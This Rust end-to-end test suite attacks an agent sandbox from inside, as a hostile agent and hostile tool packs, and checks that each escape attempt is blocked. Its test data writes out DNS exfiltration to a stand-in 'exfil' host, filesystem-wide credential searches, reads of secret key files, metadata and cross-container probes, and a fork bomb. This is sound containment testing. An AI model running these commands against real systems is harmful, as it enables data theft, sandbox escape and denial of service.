//! The escape suite: a running full bottle (and a second bottle beside it, so cross-bottle
//! probes are real) attacked from inside, as a hostile agent and as a hostile pack would.
//! Every attempt is named; a test collects all of its attempts and fails listing every one
//! that got through. docs/security.md maps each attempt to the wall that stops it.
//!
//! A hostile *handler's* network attempts (egress's loopback port, supervise's operator
//! listener, the egress network, DNS, raw/netlink/abstract sockets) are stopped by the pack
//! handler jail: `hostile_pack_network_attempts_are_blocked`.

use std::collections::BTreeMap;
use std::path::PathBuf;
use std::time::{Duration, Instant};

use e2e::{
    docker0_ip, require_docker, root_credential, run, start_git_world, wait_until, workspace_root,
    Bottle, HostServer, WorldContainer,
};

const TOKEN: &str = "e2e-escape-token-7a4c1e9b2d";
const OPENAI: &str = "e2e-escape-openai-0f3b8d6a1c";

/// The full bottle under attack, the world it talks to, and a second bottle beside it.
struct Suite {
    a: Bottle,
    _world: tempfile::TempDir,
    _git: HostServer,
    creds: BTreeMap<&'static str, PathBuf>,
}

fn full_manifest(host: &str, git_port: u16, creds: &BTreeMap<&'static str, PathBuf>) -> String {
    format!(
        r#"
slug = "{{slug}}"
daemons = ["egress", "pipelock", "git-gate", "supervise", "pack-exec"]
packs = ["{{packs}}/cmd.upper"]
allow_cidrs = ["{host}/32"]

[[allowlist]]
host = "api.example.test"

[[allowlist]]
host = "llm.example.test"

[[routes]]
host = "api.example.test"
headers = {{ Authorization = "Bearer ${{vault:TOKEN}}" }}

[vault.OPENAI]
hosts = ["llm.example.test"]

[credentials]
TOKEN = {{ file = "{token}" }}
OPENAI = {{ file = "{openai}" }}

[[git]]
name = "app"
upstream = "git://{host}:{git_port}/upstream.git"

[agent]
image = "sidecar-bundle/agent-test:dev"
command = ["sleep", "infinity"]
"#,
        token = creds["TOKEN"].display(),
        openai = creds["OPENAI"].display(),
    )
}

impl Suite {
    fn up(test: &str) -> Suite {
        let world = tempfile::tempdir().expect("tempdir");
        let (git, git_port) = start_git_world(world.path());
        let mut creds = BTreeMap::new();
        creds.insert("TOKEN", root_credential(world.path(), "token", TOKEN));
        creds.insert("OPENAI", root_credential(world.path(), "openai", OPENAI));
        let a = Bottle::up(test, &full_manifest(&docker0_ip(), git_port, &creds));
        wait_until("bottle A healthy", Duration::from_secs(60), || {
            a.inspect(&a.sidecars(), "{{.State.Health.Status}}") == "healthy"
        });
        Suite {
            a,
            _world: world,
            _git: git,
            creds,
        }
    }

    /// Runs `script` with bash in A's agent.
    fn agent(&self, script: &str) -> e2e::Output {
        self.a.exec(&self.a.agent(), &["bash", "-c", script])
    }

    /// Runs `script` with bash in A's sidecars container as `user` (uid:gid).
    fn sidecars_as(&self, user: &str, script: &str) -> e2e::Output {
        e2e::cmd("docker")
            .args(["exec", "-u", user, &self.a.sidecars(), "bash", "-c", script])
            .timeout(Duration::from_secs(60))
            .run()
    }

    /// Installs one of the suite's hostile packs, as the operator does.
    fn install(&self, name: &str) {
        let dir = workspace_root().join("tests/e2e/packs").join(name);
        self.a
            .cp(&[
                "packs",
                "install",
                &self.a.slug,
                &dir.display().to_string(),
                "--allow-unsigned",
            ])
            .ok("operator installs the hostile pack");
    }

    /// Calls a pack from the agent; returns (HTTP status, body).
    fn call_from_agent(&self, pack: &str, input: &serde_json::Value) -> (u16, serde_json::Value) {
        let input_file = format!("/tmp/in-{}.json", std::process::id());
        let script = format!(
            "cat > {input_file} <<'EOF'\n{input}\nEOF\ncurl -s --max-time 90 -o /tmp/out.json -w '%{{http_code}}' --data-binary @{input_file} \"$PACK_EXEC_URL/v1/packs/{pack}\"; echo; cat /tmp/out.json"
        );
        let out = self.agent(&script);
        let (status, body) = out.stdout.split_once('\n').unwrap_or(("0", ""));
        (
            status.trim().parse().unwrap_or(0),
            serde_json::from_str(body.trim()).unwrap_or(serde_json::Value::String(body.into())),
        )
    }

    fn assert_healthy(&self) {
        let health = self
            .a
            .exec(&self.a.sidecars(), &["/sidecar-init", "health"]);
        assert_eq!(
            health.code, 0,
            "a guard is unhealthy after the attacks: {health:?}"
        );
        let (status, out) =
            self.call_from_agent("cmd.upper", &serde_json::json!({"text": "still here"}));
        assert_eq!(status, 200, "the bundle stopped answering: {out}");
    }
}

/// Collects named attempts; `finish` fails listing every one that got through.
#[derive(Default)]
struct Attempts(Vec<String>);

impl Attempts {
    fn blocked(&mut self, name: &str, held: bool, detail: impl std::fmt::Display) {
        if !held {
            self.0.push(format!("{name}: {detail}"));
        }
    }
    fn finish(self, what: &str) {
        assert!(
            self.0.is_empty(),
            "{what}: LEAKED\n  {}",
            self.0.join("\n  ")
        );
    }
}

fn ip_of(container: &str, network_suffix: &str) -> String {
    let out = run(
        "docker",
        &[
            "inspect",
            "-f",
            "{{range $k, $v := .NetworkSettings.Networks}}{{$k}}={{$v.IPAddress}} {{end}}",
            container,
        ],
    );
    out.stdout
        .split_whitespace()
        .find_map(|kv| {
            let (k, v) = kv.split_once('=')?;
            k.ends_with(network_suffix).then(|| v.to_string())
        })
        .unwrap_or_else(|| {
            panic!(
                "{container} has no address on *{network_suffix}: {}",
                out.stdout
            )
        })
}

fn network_of(container: &str, suffix: &str) -> String {
    run(
        "docker",
        &[
            "inspect",
            "-f",
            "{{range $k, $v := .NetworkSettings.Networks}}{{$k}} {{end}}",
            container,
        ],
    )
    .stdout
    .split_whitespace()
    .find(|n| n.ends_with(suffix))
    .unwrap_or_else(|| panic!("{container} is on no *{suffix} network"))
    .to_string()
}

// ---- from the agent ---------------------------------------------------------------------------

#[test]
fn agent_cannot_install_or_delete_a_pack() {
    if !require_docker() {
        return;
    }
    let s = Suite::up("esc-pkadm");
    let before = s.sidecars_as("10005:10005", "find /var/lib/sidecars/packs | sort");
    let tar = "cd /tmp && mkdir -p p && printf '%s' '{\"name\":\"x.steal\",\"version\":\"1\",\"handler\":{\"type\":\"command\",\"command\":[\"cat\"]}}' > p/pack.json && tar -C p -czf p.tgz .";
    s.agent(tar).ok("make a pack tarball");
    let mut a = Attempts::default();
    for (method, path) in [
        ("PUT", "x.steal"),
        ("DELETE", "cmd.upper"),
        ("PUT", "cmd.upper"),
    ] {
        let out = s.agent(&format!(
            "curl -s --max-time 10 -X {method} --data-binary @/tmp/p.tgz -H 'content-type: application/gzip' \"$PACK_EXEC_URL/v1/packs/{path}\""
        ));
        let json: serde_json::Value = serde_json::from_str(out.stdout.trim()).unwrap_or_default();
        a.blocked(
            &format!("{method} /v1/packs/{path} from the agent"),
            json["error"] == "forbidden",
            &out.stdout,
        );
    }
    let after = s.sidecars_as("10005:10005", "find /var/lib/sidecars/packs | sort");
    a.blocked(
        "pack-exec's state changed by the agent",
        before.stdout == after.stdout && !after.stdout.is_empty(),
        format!("before:\n{}\nafter:\n{}", before.stdout, after.stdout),
    );
    let (status, _) = s.call_from_agent("x.steal", &serde_json::json!({}));
    a.blocked("call the agent's own pack", status == 404, status);
    a.finish("the agent managed packs");
    s.assert_healthy();
}

#[test]
fn agent_cannot_reach_the_operator_listeners_egress_or_init() {
    if !require_docker() {
        return;
    }
    let s = Suite::up("esc-ports");
    let egress_ip = ip_of(&s.a.sidecars(), "-egress");
    let mut a = Attempts::default();
    for (name, url) in [
        ("egress :9099", "http://sidecars:9099/health".to_string()),
        (
            "supervise operator :9101",
            "http://sidecars:9101/v1/events".to_string(),
        ),
        (
            "pack-exec operator :9001 (agent network)",
            "http://sidecars:9001/v1/packs".to_string(),
        ),
        (
            "pack-exec operator :9001 (egress address)",
            format!("http://{egress_ip}:9001/v1/packs"),
        ),
        (
            "egress :9099 (egress address)",
            format!("http://{egress_ip}:9099/health"),
        ),
    ] {
        let t0 = Instant::now();
        let out = s.agent(&format!(
            "curl -s --noproxy '*' --connect-timeout 3 --max-time 5 -o /dev/null -w '%{{http_code}}' {url}"
        ));
        a.blocked(name, out.stdout.trim() == "000", &out.stdout);
        a.blocked(
            &format!("{name} fails fast"),
            t0.elapsed() < Duration::from_secs(5),
            format!("{:?}", t0.elapsed()),
        );
    }
    let sock = s.agent("ls -la /run/sidecars/init.sock /run/sidecars/spawn.sock 2>&1; echo rc=$?");
    a.blocked(
        "init's sockets visible in the agent",
        !sock.stdout.contains("rc=0"),
        &sock.stdout,
    );
    a.finish("the agent reached a guard's inside");
}

#[test]
fn agent_cannot_reach_the_egress_network_another_bottle_the_host_or_metadata() {
    if !require_docker() {
        return;
    }
    let s = Suite::up("esc-net");
    let b = Bottle::up(
        "esc-net-b",
        r#"
slug = "{slug}"
daemons = ["pack-exec"]
[agent]
image = "sidecar-bundle/agent-test:dev"
command = ["sleep", "infinity"]
"#,
    );
    // A host on A's egress network, as the world is.
    let world = format!("e2e-escape-world-{}", s.a.slug);
    let _ = run("docker", &["rm", "-f", &world]);
    run(
        "docker",
        &[
            "run",
            "-d",
            "--name",
            &world,
            "--network",
            &network_of(&s.a.sidecars(), "-egress"),
            "sidecar-bundle/agent-test:dev",
            "python3",
            "-m",
            "http.server",
            "8000",
        ],
    )
    .ok("start a host on the egress network");
    let _world = WorldContainer(world.clone());
    let world_ip = ip_of(&world, "-egress");
    let egress_gateway = run(
        "docker",
        &[
            "network",
            "inspect",
            "-f",
            "{{range .IPAM.Config}}{{.Gateway}}{{end}}",
            &network_of(&s.a.sidecars(), "-egress"),
        ],
    )
    .stdout
    .trim()
    .to_string();
    let host_ip = run("hostname", &["-I"])
        .stdout
        .split_whitespace()
        .next()
        .unwrap_or("")
        .to_string();
    let targets = [
        ("a host on the egress network", format!("{world_ip}:8000")),
        (
            "the sidecars' egress address",
            format!("{}:8888", ip_of(&s.a.sidecars(), "-egress")),
        ),
        (
            "bottle B's sidecars (agent network)",
            format!("{}:9000", ip_of(&b.sidecars(), "-internal")),
        ),
        (
            "bottle B's sidecars (egress network)",
            format!("{}:9000", ip_of(&b.sidecars(), "-egress")),
        ),
        (
            "bottle B's agent",
            format!("{}:22", ip_of(&b.agent(), "-internal")),
        ),
        ("the host on docker0", format!("{}:22", docker0_ip())),
        (
            "the host on the egress bridge",
            format!("{egress_gateway}:22"),
        ),
        ("the host's own address", format!("{host_ip}:22")),
        ("cloud metadata", "169.254.169.254:80".to_string()),
        ("IPv6 out", "[2001:4860:4860::8888]:443".to_string()),
    ];
    let mut a = Attempts::default();
    for (name, target) in targets {
        let t0 = Instant::now();
        let out = s.agent(&format!(
            "curl -s --noproxy '*' --connect-timeout 3 --max-time 5 -o /dev/null -w '%{{http_code}}' http://{target}/"
        ));
        a.blocked(
            &format!("{name} ({target})"),
            out.stdout.trim() == "000",
            &out.stdout,
        );
        a.blocked(
            &format!("{name} fails fast"),
            t0.elapsed() < Duration::from_secs(5),
            format!("{:?}", t0.elapsed()),
        );
    }
    let v6 = s.agent("grep -v ' 10 \\| 20 ' /proc/net/if_inet6 | grep -v '^00000000000000000000000000000001' || true");
    a.blocked(
        "a global IPv6 address in the agent",
        v6.stdout.trim().is_empty(),
        &v6.stdout,
    );
    a.finish("the agent reached the network directly");
}

#[test]
fn agent_dns_lookups_of_outside_names_fail_fast_and_never_leave_the_bottle() {
    if !require_docker() {
        return;
    }
    let s = Suite::up("esc-dns");
    let label = format!("6578666{:x}", std::process::id() as u64 * 7919);
    let name = format!("{label}.exfil.example.com");
    let capture = tempfile::tempdir().expect("capture dir");
    let pcap = capture.path().join("dns.pcap");
    let mut tcpdump = std::process::Command::new("tcpdump")
        .args(["-i", "any", "-nn", "-U", "-w"])
        .arg(&pcap)
        .args(["udp port 53 or tcp port 53"])
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .expect("tcpdump (scripts/apt-packages.txt installs it)");
    std::thread::sleep(Duration::from_millis(800)); // tcpdump has no readiness signal
    let mut a = Attempts::default();
    let t0 = Instant::now();
    let lookup = s.agent(&format!("getent hosts {name}; echo rc=$?"));
    let took = t0.elapsed();
    a.blocked(
        "resolve an outside name",
        lookup.stdout.contains("rc=2"),
        &lookup.stdout,
    );
    a.blocked(
        "the lookup fails in under 2 s",
        took < Duration::from_secs(2),
        format!("{took:?}"),
    );
    // Straight to Docker's embedded resolver and to the bottle's own, bypassing resolv.conf.
    let sidecars_ip = ip_of(&s.a.sidecars(), "-internal");
    for server in ["127.0.0.11", sidecars_ip.as_str()] {
        let q = s.agent(&format!(
            "python3 - <<'EOF'\nimport socket,struct\nq=struct.pack('>HHHHHH',7,256,1,0,0,0)+b''.join(bytes([len(l)])+l for l in b'{name}'.split(b'.'))+b'\\x00\\x00\\x01\\x00\\x01'\ns=socket.socket(socket.AF_INET,socket.SOCK_DGRAM);s.settimeout(2);s.sendto(q,('{server}',53))\ntry:\n    d=s.recv(512);print('rcode',d[3]&15,'answers',struct.unpack('>H',d[6:8])[0])\nexcept Exception as e:\n    print('no answer',e)\nEOF"
        ));
        a.blocked(
            &format!("an answer for an outside name from {server}"),
            !q.stdout.contains("answers") || q.stdout.contains("answers 0"),
            &q.stdout,
        );
    }
    // Through the proxy: pipelock resolves names itself, so a name whose labels carry data
    // must be refused before any lookup (the capture below would see pipelock's query leave).
    let carrying = format!("{label}{label}{label}.exfil.example.com");
    let plain = s.agent(&format!(
        "curl -sS --max-time 10 -x \"$HTTPS_PROXY\" -w ' %{{http_code}}' http://{carrying}/"
    ));
    a.blocked(
        "a name carrying hex data, plain HTTP through pipelock",
        plain.stdout.ends_with(" 403") && plain.stdout.contains("rule host-encoded-data"),
        &plain.stdout,
    );
    let tunnel = s.agent(&format!(
        "curl -sS --max-time 10 -x \"$HTTPS_PROXY\" -o /dev/null -w '%{{http_connect}}' https://{carrying}/"
    ));
    a.blocked(
        "a name carrying hex data, CONNECT through pipelock",
        tunnel.stdout.trim() == "403",
        &tunnel.stdout,
    );
    let own = s.agent("getent hosts sidecars");
    a.blocked(
        "the bottle's own names still resolve",
        own.stdout.contains(&sidecars_ip),
        &own.stdout,
    );
    std::thread::sleep(Duration::from_millis(500));
    let _ = nix_kill(tcpdump.id(), 2);
    let _ = tcpdump.wait();
    let decoded = run("tcpdump", &["-nn", "-r", &pcap.display().to_string()]);
    let agent_ip = ip_of(&s.a.agent(), "-internal");
    let mut seen = 0;
    for line in decoded.stdout.lines().filter(|l| l.contains(&label)) {
        seen += 1;
        let between =
            line.contains(&format!("{agent_ip}.")) && line.contains(&format!("{sidecars_ip}.53"));
        let reply = line.contains(&format!("{sidecars_ip}.53 >"))
            && line.contains(&format!("> {agent_ip}."));
        a.blocked(
            "a DNS packet for the names outside agent <-> bottle resolver",
            between || reply,
            line,
        );
    }
    a.blocked(
        "the capture saw the lookups at all",
        seen > 0,
        decoded.stdout.lines().count(),
    );
    a.finish("DNS left the bottle");
}

fn nix_kill(pid: u32, sig: i32) -> std::io::Result<()> {
    let out = run("kill", &[&format!("-{sig}"), &pid.to_string()]);
    if out.code == 0 {
        Ok(())
    } else {
        Err(std::io::Error::other(out.stderr))
    }
}

#[test]
fn agent_has_no_docker_socket_no_capabilities_and_no_credential() {
    if !require_docker() {
        return;
    }
    let s = Suite::up("esc-agent");
    let mut a = Attempts::default();
    let sock = s.agent("test -e /var/run/docker.sock && echo PRESENT || echo absent");
    a.blocked(
        "the Docker socket",
        sock.stdout.contains("absent"),
        &sock.stdout,
    );
    let caps =
        s.agent("grep -E '^(CapEff|CapPrm|CapAmb|NoNewPrivs)' /proc/1/status /proc/self/status");
    for line in caps.stdout.lines() {
        let held = if line.contains("NoNewPrivs") {
            line.ends_with("\t1")
        } else {
            line.ends_with("0000000000000000")
        };
        a.blocked(&format!("agent {line}"), held, line);
    }
    for value in [TOKEN, OPENAI] {
        let leak = s.agent(&format!(
            "env | grep -c {value}; tr '\\0' '\\n' < /proc/1/environ | grep -c {value}; grep -rsl {value} / --exclude-dir=proc --exclude-dir=sys | head -3"
        ));
        let lines: Vec<&str> = leak.stdout.lines().collect();
        a.blocked(
            "a credential value in the agent",
            lines.first() == Some(&"0") && lines.get(1) == Some(&"0") && lines.len() == 2,
            &leak.stdout,
        );
    }
    for name in s.creds.keys() {
        let env = s.agent(&format!("env | grep -c '^{name}='"));
        a.blocked(
            "a credential's name in the agent's env",
            env.stdout.trim() == "0",
            &env.stdout,
        );
    }
    a.finish("the agent holds something it must not");
}

// ---- inside the sidecars container ----------------------------------------------------------

#[test]
fn every_process_but_init_has_no_capabilities_no_new_privs_and_no_core_dumps() {
    if !require_docker() {
        return;
    }
    let s = Suite::up("esc-caps");
    // Walk every process descended from init (docker exec's own processes have ppid 0).
    let script = r#"
import os
def field(pid, name):
    for l in open('/proc/%s/status' % pid):
        if l.startswith(name + ':'):
            return l.split(':', 1)[1].strip()
def ancestor_is_init(pid):
    while pid not in ('0', '1'):
        pid = field(pid, 'PPid')
    return pid == '1'
for pid in sorted((p for p in os.listdir('/proc') if p.isdigit()), key=int):
    try:
        if pid == '1' or not ancestor_is_init(pid):
            continue
        core = [l for l in open('/proc/%s/limits' % pid) if l.startswith('Max core file size')][0].split()[4]
        print(pid, field(pid, 'Name'), field(pid, 'Uid').split()[0], field(pid, 'CapEff'), field(pid, 'CapPrm'), field(pid, 'CapAmb'), field(pid, 'NoNewPrivs'), core)
    except (FileNotFoundError, ProcessLookupError, TypeError):
        pass
"#;
    let out = s.a.exec(&s.a.sidecars(), &["python3", "-c", script]);
    let mut a = Attempts::default();
    let mut uids = std::collections::BTreeSet::new();
    for line in out.stdout.lines() {
        let f: Vec<&str> = line.split_whitespace().collect();
        let [_pid, _name, uid, eff, prm, amb, nnp, core] = f[..] else {
            continue;
        };
        uids.insert(uid.to_string());
        let zero = "0000000000000000";
        a.blocked(
            &format!("capabilities of {line}"),
            eff == zero && prm == zero && amb == zero,
            line,
        );
        a.blocked(&format!("no_new_privs of {line}"), nnp == "1", line);
        a.blocked(&format!("core dumps of {line}"), core == "0", line);
        a.blocked(&format!("root daemon {line}"), uid != "0", line);
    }
    // one uid per daemon (five daemons plus the dns responder)
    a.blocked(
        "one uid per daemon",
        uids.len() >= 6,
        format!("{uids:?}\n{}", out.stdout),
    );
    let init = s.a.exec(
        &s.a.sidecars(),
        &["grep", "-E", "^(Uid|CapEff)", "/proc/1/status"],
    );
    // init keeps exactly CHOWN (0), KILL (5), SETGID (6), SETUID (7): 0xe1.
    a.blocked(
        "init's capabilities are CHOWN KILL SETGID SETUID",
        init.stdout.contains("00000000000000e1"),
        &init.stdout,
    );
    a.finish("a process holds privilege it must not");
}

#[test]
fn hostile_pack_cannot_read_write_signal_or_trace_another_room() {
    if !require_docker() {
        return;
    }
    let s = Suite::up("esc-pack");
    s.install("x.hostile");
    let mut read = vec![
        "/run/secrets/bottle/TOKEN".to_string(),
        "/run/secrets/bottle/OPENAI".to_string(),
        "/run/secrets/bundle/ca.key".to_string(),
        "/run/secrets/bundle/pack-exec-operator-token".to_string(),
        "/run/sidecars/credentials/egress/ca.key".to_string(),
        "/run/sidecars/credentials/egress/TOKEN".to_string(),
        "/run/sidecars/credentials/pipelock/TOKEN".to_string(),
        "/run/sidecars/credentials/pack-exec/operator-token".to_string(),
        // The generation directories behind those links, named directly.
        "/run/sidecars/credentials/egress.1/TOKEN".to_string(),
        "/run/sidecars/credentials/egress.1/ca.key".to_string(),
        "/git/app.git/config".to_string(),
        "/git/app.git/HEAD".to_string(),
    ];
    // Another pack's files (the jail's Landlock rules: only the handler's own pack dir), and
    // init's process files.
    read.extend(OTHER_PACK_FILES.map(String::from));
    read.extend(["/proc/1/cmdline", "/proc/1/status", "/proc/1/environ"].map(String::from));
    for d in [
        "init",
        "egress",
        "pipelock",
        "git-gate",
        "supervise",
        "pack-exec",
        "dns",
    ] {
        read.push(format!("/etc/sidecars/{d}.json"));
    }
    let input = serde_json::json!({
        "read": read,
        "write": [
            "/run/supervise/queue/decisions/forged.json",
            "/run/supervise/queue/forged.json",
            "/git/app.git/hooks/pre-receive",
            "/git/app.git/config",
            "/usr/share/sidecars/git-hooks/pre-receive",
            "/var/lib/sidecars/packs/forged",
            "/etc/sidecars/pipelock.json",
        ],
        "list": [
            "/run/supervise/queue", "/git", "/run/sidecars/credentials",
            "/var/lib/sidecars/packs/installed", "/etc/sidecars", "/usr/share/sidecars/packs",
            "/var/lib/sidecars/packs/packs", "/tmp", "/dev/shm",
        ],
        "daemon_uids": [0, 10001, 10002, 10003, 10004, 10005, 10006],
        "pids": sidecars_processes(&s),
        "unix": ["/run/sidecars/init.sock", "/run/sidecars/spawn.sock"],
    });
    let (status, out) = s.call_from_agent("x.hostile", &input);
    assert_eq!(status, 200, "the hostile pack did not run: {out}");
    let results = out["output"]["results"]
        .as_object()
        .cloned()
        .unwrap_or_default();
    assert!(results.len() > 30, "too few attempts ran: {out}");
    let uid = out["output"]["uid"].as_u64().unwrap_or(0);
    let mut a = Attempts::default();
    a.blocked(
        "the handler runs as a handler uid",
        (10100..=10163).contains(&uid),
        uid,
    );
    for (name, verdict) in &results {
        let v = verdict.as_str().unwrap_or("");
        a.blocked(name, v.starts_with("blocked"), v);
    }
    // Another pack's files exist (the image ships cmd.upper, the bottle mounts it): a
    // not-found would mean the attempt aimed at nothing, so only a refusal counts; the same
    // for the credential generations init made (they exist: egress has both files).
    let generations = [
        "/run/sidecars/credentials/egress.1/TOKEN",
        "/run/sidecars/credentials/egress.1/ca.key",
    ];
    for path in OTHER_PACK_FILES.iter().chain(&generations) {
        let name = format!("read {path}");
        let v = results.get(&name).and_then(|v| v.as_str()).unwrap_or("");
        a.blocked(
            &format!("{name} is refused (EACCES), not missing"),
            v.contains("PermissionError"),
            v,
        );
    }
    let signals = results.keys().filter(|k| k.starts_with("signal ")).count();
    a.blocked("every daemon was tried", signals >= 7, signals);
    a.finish("a hostile pack got out of its room");
    s.assert_healthy();
}

/// Files of another pack than the handler's: the image's seed pack and the bottle's copy.
const OTHER_PACK_FILES: [&str; 2] = [
    "/usr/share/sidecars/packs/cmd.upper/upper",
    "/etc/sidecars/packs/cmd.upper/upper",
];

/// Every process of the sidecars container as `[pid, uid]`, read from outside (a jailed handler
/// cannot list `/proc`, so the test hands it the daemons to attack).
fn sidecars_processes(s: &Suite) -> Vec<serde_json::Value> {
    let out = s.sidecars_as(
        "0:0",
        "for p in /proc/[0-9]*; do echo ${p#/proc/} $(stat -c %u $p); done",
    );
    out.stdout
        .lines()
        .filter_map(|l| {
            let (pid, uid) = l.split_once(' ')?;
            Some(serde_json::json!([
                pid.parse::<u32>().ok()?,
                uid.parse::<u32>().ok()?
            ]))
        })
        .filter(|p| {
            p[1].as_u64()
                .is_some_and(|u| u == 0 || (10001..=10006).contains(&u))
        })
        .collect()
}

/// The jail: a handler's only way out is pipelock. Every other connection — the guards'
/// loopback ports, the egress network (pipelock's own address there included), the host, a
/// DNS server of the test's (which records that nothing arrived), Docker's resolver, an
/// abstract unix socket a daemon-uid process listens on, raw, packet and netlink sockets —
/// fails, every daemon's pid refuses a signal, and the guards stay healthy.
#[test]
fn hostile_pack_network_attempts_are_blocked() {
    if !require_docker() {
        return;
    }
    let s = Suite::up("esc-pnet");
    s.install("x.hostile");
    let egress_ip = ip_of(&s.a.sidecars(), "-egress");
    // The test's own DNS server: a UDP socket on the host, reachable from the egress network.
    let dns = std::net::UdpSocket::bind("0.0.0.0:0").expect("udp");
    dns.set_nonblocking(true).expect("nonblocking");
    let dns_port = dns.local_addr().expect("addr").port();
    // An abstract unix socket in the sidecars container's network namespace.
    let _listener = e2e::cmd("docker")
        .args([
            "exec", "-d", "-u", "10003:10003", &s.a.sidecars(), "python3", "-c",
            "import socket,time; s=socket.socket(socket.AF_UNIX); s.bind('\\0e2e-guard-abstract'); s.listen(); time.sleep(120)",
        ])
        .run()
        .ok("an abstract socket listener");
    std::thread::sleep(Duration::from_millis(500));
    let input = serde_json::json!({
        "tcp": [
            ["127.0.0.1", 9099], ["127.0.0.1", 9101], ["127.0.0.1", 9100], ["127.0.0.1", 9418],
            ["127.0.0.1", 8889], ["127.0.0.1", 9001],
            [egress_ip, 8888], [egress_ip, 9099], [egress_ip, 9001],
            [docker0_ip(), 22], [docker0_ip(), dns_port],
        ],
        "udp_dns": [["127.0.0.11", 53], [docker0_ip(), dns_port]],
        "unix": ["/run/sidecars/init.sock", "/run/sidecars/spawn.sock"],
        "abstract": ["e2e-guard-abstract"],
        "raw": true,
        "netlink": true,
        "pids": sidecars_processes(&s),
    });
    let (status, out) = s.call_from_agent("x.hostile", &input);
    assert_eq!(status, 200, "the hostile pack did not run: {out}");
    let results = out["output"]["results"]
        .as_object()
        .cloned()
        .unwrap_or_default();
    let mut a = Attempts::default();
    for (name, verdict) in &results {
        let v = verdict.as_str().unwrap_or("");
        a.blocked(name, v.starts_with("blocked"), v);
    }
    let signals = results.keys().filter(|k| k.starts_with("signal ")).count();
    a.blocked("every daemon's pid was signalled", signals >= 7, signals);
    a.blocked(
        "the abstract socket was tried",
        results.contains_key("abstract unix @e2e-guard-abstract"),
        "missing",
    );
    let mut buf = [0u8; 512];
    let arrived = dns.recv_from(&mut buf).is_ok();
    a.blocked(
        "the test's DNS server heard nothing",
        !arrived,
        "a query arrived",
    );
    a.finish("a hostile pack reached the network");
    s.assert_healthy();

    // Control: the same script, same input, run unjailed under a handler uid in the same
    // container, gets out — so the attempts above are real and only the jail stopped them.
    let script = s.sidecars_as(
        "0:0",
        "ls -d /var/lib/sidecars/packs/packs/x.hostile@*/attack.py",
    );
    let script = script.stdout.trim().to_string();
    let unjailed = e2e::cmd("docker")
        .args([
            "exec",
            "-i",
            "-u",
            "10150:10150",
            &s.a.sidecars(),
            "python3",
            &script,
        ])
        .stdin(input.to_string())
        .timeout(Duration::from_secs(120))
        .run();
    let control: serde_json::Value =
        serde_json::from_str(unjailed.stdout.trim()).unwrap_or_default();
    let leaked: Vec<&String> = control["results"]
        .as_object()
        .map(|m| {
            m.iter()
                .filter(|(_, v)| v.as_str().is_some_and(|v| v.starts_with("LEAKED")))
                .map(|(k, _)| k)
                .collect()
        })
        .unwrap_or_default();
    for must in [
        "tcp 127.0.0.1:9099",
        "tcp 127.0.0.1:9101",
        "abstract unix @e2e-guard-abstract",
    ] {
        assert!(
            leaked.iter().any(|k| k.as_str() == must),
            "control run: `{must}` should get through without the jail: {control}"
        );
    }
    std::thread::sleep(Duration::from_millis(300));
    assert!(
        dns.recv_from(&mut buf).is_ok(),
        "control run: the test's DNS server should hear an unjailed query"
    );
}

// ---- resource bounds --------------------------------------------------------------------------

#[test]
fn fork_bombs_and_tmp_fillers_in_the_agent_and_in_handlers_leave_the_guards_healthy() {
    if !require_docker() {
        return;
    }
    let s = Suite::up("esc-bound");
    s.install("x.forkbomb");
    s.install("x.filler");
    let mut a = Attempts::default();
    // In a handler: the per-call process limit and timeout hold it; nothing is left after.
    let (status, out) = s.call_from_agent("x.forkbomb", &serde_json::json!({}));
    a.blocked(
        "a handler fork bomb ends the call with an error",
        status >= 500,
        format!("{status} {out}"),
    );
    let (status, out) = s.call_from_agent("x.filler", &serde_json::json!({}));
    a.blocked(
        "a handler filler is stopped",
        status == 200 || status >= 500,
        format!("{status} {out}"),
    );
    let left = s.a.exec(
        &s.a.sidecars(),
        &["bash", "-c", "ps -eo uid= | awk '$1>=10100 && $1<=10163' | wc -l; find /tmp /dev/shm -mindepth 1 -maxdepth 1 -uid +10099 | wc -l"],
    );
    a.blocked(
        "nothing of a finished call is left",
        left.stdout.split_whitespace().all(|n| n == "0"),
        &left.stdout,
    );
    s.assert_healthy();
    // In the agent: its own pids_limit and tmpfs size hold it.
    let _ = e2e::cmd("docker")
        .args([
            "exec",
            "-d",
            &s.a.agent(),
            "bash",
            "-c",
            "bomb() { bomb | bomb & }; bomb; sleep 60",
        ])
        .run();
    let _ = s.agent("head -c 2000000000 /dev/zero > /tmp/fill 2>/dev/null; true");
    std::thread::sleep(Duration::from_secs(3));
    let pids = run(
        "docker",
        &["inspect", "-f", "{{.HostConfig.PidsLimit}}", &s.a.agent()],
    );
    a.blocked(
        "the agent has a pids limit",
        pids.stdout.trim().parse::<i64>().unwrap_or(0) > 0,
        &pids.stdout,
    );
    let health = s.a.exec(&s.a.sidecars(), &["/sidecar-init", "health"]);
    a.blocked(
        "the guards stay healthy during an agent fork bomb",
        health.code == 0,
        format!("{health:?}"),
    );
    let published = s.a.cp(&["packs", "list", &s.a.slug]);
    a.blocked(
        "pack-exec answers the operator during it",
        published.code == 0,
        format!("{published:?}"),
    );
    let _ = run("docker", &["restart", "-t", "1", &s.a.agent()]);
    a.finish("resource bounds");
    s.assert_healthy();
}
